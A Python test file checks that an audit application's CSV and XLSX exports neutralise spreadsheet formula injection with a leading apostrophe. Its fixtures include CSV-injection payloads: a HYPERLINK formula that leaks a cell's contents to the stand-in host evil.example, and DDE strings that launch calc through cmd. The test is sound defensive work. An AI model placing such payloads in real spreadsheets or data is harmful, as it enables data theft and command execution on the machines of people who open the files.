"""B5 (issue 13): no spreadsheet the system writes runs what came in the data. A value beginning
with = + - @ (or a tab, a carriage return) would be a formula when the CSV or XLSX is opened in
Excel or WPS: the import errors CSV (the web's download and ``audit import --errors-csv``), the
attendance sheet and the findings export all write it with a leading apostrophe."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from models import Person, Position, db

from helpers import base_tables, write_bundle
from web_helpers import login, upload_zip, zip_folder

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def bad_bundle(people, folder: Path) -> Path:
    """A bundle whose persons rows carry formulas in a checked column (人员类别): each an error whose
    value is the formula as typed."""
    tables = base_tables(people)
    for row, payload in zip(tables["persons"], PAYLOADS[:3], strict=True):
        row["categories"] = payload
    tables["persons"][0]["labour_ability"] = PAYLOADS[3]
    return write_bundle(folder, tables)


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_inert(rows: list[list[str]], payloads=PAYLOADS) -> None:
    cells = [c for r in rows for c in r]
    assert cells, "nothing written"
    for c in cells:
        assert not c.startswith(DANGEROUS), c
    for p in payloads:  # the value is still there to read, behind an apostrophe
        assert "'" + p in cells, p


def test_the_import_errors_csv_of_the_command_line_runs_nothing(runner, people, tmp_path):
    out = tmp_path / "errors.csv"
    result = runner.invoke("import", str(bad_bundle(people, tmp_path / "bad")), "--errors-csv", str(out))
    assert result.exit_code == 1 and "导入被拒绝" in result.output
    rows = csv_cells(out.read_text(encoding="utf-8-sig"))
    assert rows[0] == ["表", "文件或工作表", "行号", "列", "值", "原因"]
    assert_inert(rows[1:])


def test_the_import_errors_csv_of_the_web_runs_nothing(app, client, web, people, tmp_path):
    login(client, "auditor_fj")
    folder = tmp_path / "bad"
    bad_bundle(people, folder)
    data = zip_folder(folder)
    job = upload_zip(client, data, "bundle.zip")
    from audit.uploads import jobs

    jobs.wait(job)
    got = client.get(f"/uploads/{job}/errors.csv")
    assert got.status_code == 200
    rows = csv_cells(got.get_data(as_text=True))
    assert_inert(rows[1:])
    # the page shows the values as they came (the apostrophe guards the file only)
    formula = next(c for r in rows[1:] for c in r if c[:1] == "'" and c[1:2] in "=+-@")
    page = client.get(f"/uploads/{job}").get_data(as_text=True)
    head = re.match(r"[^\"&<>']+", formula[1:]).group(0)
    assert head in page and f"'{head}" not in page and f"&#39;{head}" not in page


def test_the_attendance_sheet_runs_nothing(app, web, client):
    from audit.auth.services import create_user

    # a unit without a township reads as its bare name: the sheet's text starts with =
    unit = "=1+1 村民委员会"
    db.session.execute(update(Position).where(Position.employer == "白帝村村民委员会")
                       .values(employer=unit, township=None))
    db.session.execute(update(Person).where(Person.id == web.person_id["王大山"]).values(name="@SUM(1+1)"))
    create_user("operator_formula", "operator", "correct-horse-42", units=[f"employer:{unit}"], by="test")
    db.session.commit()
    login(client, "operator_formula")
    resp = client.get("/attendance/sheet.xlsx",
                      query_string={"kind": "employer", "unit": f"奉节县//{unit}", "month": "2025-04"})
    assert resp.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(resp.data)).active
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v.startswith("'=1+1 村民委员会") for v in values), values[:3]
    assert "'@SUM(1+1)" in values
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate  # not a formula
            assert not (isinstance(c.value, str) and c.value.startswith(DANGEROUS)), (c.coordinate, c.value)


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "普通文字", "", None])
def test_the_one_helper_neutralises_a_leading_formula_character(value):
    from audit.engine.export import safe_cell

    shown = safe_cell(value)
    assert not shown.startswith(DANGEROUS)
    assert shown.lstrip("'") == (value or "")
